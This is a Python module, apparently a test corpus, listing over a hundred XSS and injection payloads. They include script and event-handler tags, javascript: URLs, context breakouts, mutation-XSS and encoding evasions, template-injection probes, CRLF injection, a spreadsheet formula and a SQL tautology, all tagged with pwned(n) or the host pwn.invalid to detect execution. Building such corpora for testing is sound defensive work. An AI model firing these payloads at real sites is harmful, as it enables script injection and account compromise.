"""What people try so that words of a report become script: each calls `pwned(number)`, opens a dialog, or asks pwn.invalid.

`§` stands for the number of the payload. Elements of an attack that would be there without running are known by `x-pwn` or by
an id, class or name that begins with `pwn`; a template that is worked out says 23331.
"""

from __future__ import annotations

TAGS = (
    *("<script>pwned(§)</script>", "<SCRIPT>pwned(§)</SCRIPT >", "<script src=//pwn.invalid/§></script>"),
    *("<script/x>pwned(§)</script>", "<script type=module>pwned(§)</script>", "<scr<script>ipt>pwned(§)</scr</script>ipt>"),
    *("<script>pwned(§)", "<x-pwn>§</x-pwn>", "<img src=x onerror=pwned(§)>", "<img src=x onerror=alert(§)>"),
    *("<IMG SRC=x OnErRoR=pwned(§)>", "<img/src=x/onerror=pwned(§)>", "<img src=https://pwn.invalid/§>"),
    *("<img srcset='https://pwn.invalid/§ 2x'>", "<image src=x onerror=pwned(§)>", "<svg onload=pwned(§)>"),
    *("<svg/onload=pwned(§)>", "<svg><script>pwned(§)</script></svg>", "<svg><script href=//pwn.invalid/§ />"),
    *("<svg><animate onbegin=pwned(§) attributeName=x dur=1s>", "<svg><set attributeName=onload to=pwned(§)>"),
    *("<svg><a xlink:href='javascript:pwned(§)'><text>x</text></a></svg>",),
    *("<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(§)>#x'>",),
    *("<svg><foreignObject><body onload=pwned(§)></foreignObject></svg>", "<math href='javascript:pwned(§)'>x</math>"),
    *("<body onload=pwned(§)>", "<body onpageshow=pwned(§)>", "<html onmouseover=pwned(§)>"),
    *("<iframe src='javascript:pwned(§)'>", "<iframe srcdoc='<script>parent.pwned(§)</script>'>"),
    *("<iframe onload=pwned(§)>", "<frameset onload=pwned(§)>", "<object data='javascript:pwned(§)'>"),
    *("<object data='data:text/html,<script>parent.pwned(§)</script>'>", "<embed src='javascript:pwned(§)'>"),
    *("<applet code=x>", "<portal src=//pwn.invalid/§>", "<link rel=stylesheet href=//pwn.invalid/§>"),
    *("<link rel=preload as=script href=//pwn.invalid/§>", "<link rel=import href=//pwn.invalid/§>"),
    *("<base href=//pwn.invalid/§/>", "<meta http-equiv=refresh content='0;url=javascript:pwned(§)'>"),
    *("<meta http-equiv=refresh content='0;url=//pwn.invalid/§'>", "<style>@import '//pwn.invalid/§';</style>"),
    *("<style>*{background:url(//pwn.invalid/§)}</style>", "<p style='background:url(//pwn.invalid/§)'>"),
    *("<style>@keyframes x{}</style><p style='animation:x' onanimationstart=pwned(§)>", "<marquee onstart=pwned(§)>"),
    *("<details open ontoggle=pwned(§)>", "<input autofocus onfocus=pwned(§)>", "<select autofocus onfocus=pwned(§)>"),
    *("<textarea autofocus onfocus=pwned(§)>", "<keygen autofocus onfocus=pwned(§)>", "<video src=x onerror=pwned(§)>"),
    *("<video><source onerror=pwned(§)></video>", "<audio src=x onerror=pwned(§)>", "<video poster=//pwn.invalid/§>"),
    *("<form id=pwn§ action='javascript:pwned(§)'><input type=submit>",),
    *("<button formaction='javascript:pwned(§)'>x</button>", "<input type=image src=//pwn.invalid/§>"),
    *("<isindex action='javascript:pwned(§)'>", "<dialog open onclose=pwned(§)>", "<a href='javascript:pwned(§)'>x</a>"),
    *("<a href=' &#106;avascript:pwned(§)'>x</a>", "<a href='java\tscript:pwned(\xa7)'>x</a>"),
    *("<a href='data:text/html,<script>pwned(§)</script>'>x</a>", "<a href='vbscript:pwned(§)'>x</a>"),
    *("<a id=pwn§ ping=//pwn.invalid/§ href=#>x", "<table background='javascript:pwned(§)'>"),
    *("<div id=pwn§ popover onbeforetoggle=pwned(§)>x</div>", "<x contenteditable onblur=pwned(§)>"),
    *("<template><script>pwned(§)</script></template>",),
    *("<template shadowrootmode=open><img src=x onerror=pwned(§)></template>",),
)
"""Elements, where words stand between tags."""
OUT = (
    *('"><script>pwned(§)</script>', "'><script>pwned(§)</script>", '" onmouseover="pwned(§)', "' onmouseover='pwned(§)"),
    *("` onmouseover=pwned(§) `", " onmouseover=pwned(§) ", '" autofocus onfocus="pwned(§)" x="'),
    *('" style="background:url(//pwn.invalid/§)', '" id="pwn§" name="pwn§', "</title><script>pwned(§)</script>"),
    *("</textarea><script>pwned(§)</script>", "</style><script>pwned(§)</script>", "</script><script>pwned(§)</script>"),
    *("</noscript><script>pwned(§)</script>", "</template><img src=x onerror=pwned(§)>"),
    *("</option></select><img src=x onerror=pwned(§)>", "</svg><img src=x onerror=pwned(§)>"),
    *("</text></svg><script>pwned(§)</script>", "--><script>pwned(§)</script>", "--!><img src=x onerror=pwned(§)>"),
    *("]]><script>pwned(§)</script>", "<!--><img src=x onerror=pwned(§)>", "<![CDATA[><img src=x onerror=pwned(§)>]]>"),
    *("<?x ><img src=x onerror=pwned(§)>?>", "<!x ><img src=x onerror=pwned(§)>", "</ x><img src=x onerror=pwned(§)>"),
    *("';pwned(§);'", '";pwned(§);"', "\\';pwned(§)//", '\\";pwned(§)//', "`${pwned(§)}`", "*/pwned(§)/*", "'-pwned(§)-'"),
    *("\u2028pwned(\xa7)\u2029", "}*{background:url(//pwn.invalid/§)}"),
    *('";}body{background:url(//pwn.invalid/§)}a{content:"', "\\3c script\\3e pwned(§)\\3c/script\\3e"),
    *("javascript:pwned(§)", "JaVaScRiPt:pwned(§)", "\x01javascript:pwned(\xa7)", "java\nscript:pwned(\xa7)"),
    *("javascript&colon;pwned(§)", "javascript://x/%0apwned(§)", "data:text/html,<script>opener.pwned(§)</script>"),
    *("data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoOTk5KTwvc2NyaXB0Pg==", "vbscript:pwned(§)", "//pwn.invalid/§"),
    *('https://x.invalid/"onmouseover="pwned(§)', "https://x.invalid/<script>pwned(§)</script>", "blob:pwned(§)"),
    *("filesystem:pwned(§)",),
)
"""Ways out of where words may stand: attributes, text of elements, comments, strings, styles, addresses."""
OTHERWISE = (
    *("&lt;script&gt;pwned(§)&lt;/script&gt;", "&#60;script&#62;pwned(§)&#60;/script&#62;"),
    *("&amp;lt;img src=x onerror=pwned(§)&amp;gt;", "%3Cscript%3Epwned(§)%3C/script%3E"),
    *("\\u003cscript\\u003epwned(§)\\u003c/script\\u003e", "\\x3cimg src=x onerror=pwned(§)\\x3e"),
    *("+ADw-script+AD4-pwned(§)+ADw-/script+AD4-", "＜script＞pwned(§)＜/script＞", "<\x00script>pwned(\xa7)</script>"),
    *("<img\x0bsrc=x\x0conerror=pwned(\xa7)>", "\u202e<script>pwned(\xa7)</script>", "<ſcript>pwned(§)</ſcript>"),
    *("\ufeff<script>pwned(\xa7)</script>", "<\u200bscript>pwned(\xa7)</script>"),
    *("{{7777*3}}{{constructor.constructor('pwned(§)')()}}", "${7777*3}", "<%= 7777*3 %>", "#{7777*3}"),
    *("{%print(7777*3)%}", "@(7777*3)", "{7777*3}", "[x](javascript:pwned(§))", "![x](https://pwn.invalid/§)"),
    *("<javascript:pwned(§)>", "`x`{=html}<script>pwned(§)</script>", "[[pwned(§)]]"),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned(§)&gt;'>",),
    *("<svg></p><style><a id='</style><img src=x onerror=pwned(§)>'>",),
    *("<noscript><p title='</noscript><img src=x onerror=pwned(§)>'>",),
    *("<form id=pwn§><input name=attributes><input name=nodeName>", "<a id=pwn§ name=documentElement>"),
    *("<img name=body id=pwn§>", "\r\nContent-Type: text/html\r\n\r\n<script>pwned(\xa7)</script>"),
    *("\x1b]0;pwned(\xa7)\x07", '=HYPERLINK("https://pwn.invalid/§")', "' OR 1=1 --"),
)
"""Encoded, in signs alike, for templates, for Markdown, for parsers that read twice, for names that scripts look up."""


def payloads(most: int | None = None) -> list[str]:
    """More than a hundred; of fewer, some of each sort."""
    found = [text.replace("§", str(number)) for number, text in enumerate((*TAGS, *OUT, *OTHERWISE))]
    return found if most is None else [found[turn * len(found) // most] for turn in range(min(most, len(found)))]
